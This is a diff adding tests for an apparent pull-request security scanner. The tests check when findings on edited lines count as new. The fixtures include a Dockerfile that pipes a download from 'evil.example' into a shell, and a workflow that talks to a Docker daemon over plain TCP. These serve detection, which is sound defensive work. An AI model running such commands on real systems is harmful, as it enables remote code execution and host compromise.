@@ -64,3 +64,40 @@ describe('an edit that leaves what was found as it was keeps the finding existin
     expect(narrower.code).toBe(0);
   }, 60_000);
 });
+
+describe('a rule that quotes nothing from the files: its finding on a line the change edits is new (helper-41)', () => {
+  const dockerfile = (url: string, comment = '') => `FROM alpine:3.20\n${comment}RUN <<EOF\nset -e\ncurl -fsSL ${url} | sh\nEOF\nUSER 1000\n`;
+
+  it('a piped installer URL swapped for another', async () => {
+    const run = await pullRequest({ base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh') }, head: { Dockerfile: dockerfile('https://evil.example/x') }, inputs: { 'fail-on': 'medium' } });
+    expect(run.code).toBe(1);
+    expect(run.outputs['new']).not.toBe('0');
+    expect(run.summary).toContain('command\\-download\\-piped\\-to\\-shell');
+  }, 60_000);
+
+  it('and under an older suppression, which then counts as made by the change', async () => {
+    const comment = '# containment: ignore[command-download-piped-to-shell] vendor installer, reviewed\n';
+    const run = await pullRequest({
+      base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh', comment), '.github/containment.yml': 'suppressions:\n  in-pull-request: up-to-low\n' },
+      head: { Dockerfile: dockerfile('https://evil.example/x', comment) },
+      inputs: { 'fail-on': 'medium' },
+    });
+    expect(run.code).toBe(1);
+  }, 60_000);
+
+  it('a rule that quotes no value at all: a plain-TCP daemon moved to another host', async () => {
+    const workflow = (host: string) => `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker -H tcp://${host}:2375 ps\n`;
+    const base = { '.github/workflows/ci.yml': workflow('10.0.0.1') };
+    const moved = await pullRequest({ base, head: { '.github/workflows/ci.yml': workflow('203.0.113.9') } });
+    expect(moved.code).toBe(1);
+    expect(moved.summary).toContain('command\\-docker\\-daemon\\-tcp\\-without\\-tls');
+    const untouched = await pullRequest({ base, head: { '.github/workflows/ci.yml': `${workflow('10.0.0.1')}      - run: echo done\n` } });
+    expect(untouched.outputs['new']).toBe('0');
+  }, 60_000);
+
+  it('left alone when the change edits other lines', async () => {
+    const run = await pullRequest({ base: { Dockerfile: dockerfile('https://get.trusted.example/install.sh') }, head: { Dockerfile: dockerfile('https://get.trusted.example/install.sh').replace('USER 1000', 'USER 1001') }, inputs: { 'fail-on': 'medium' } });
+    expect(run.outputs['new']).toBe('0');
+    expect(run.code).toBe(0);
+  }, 60_000);
+});
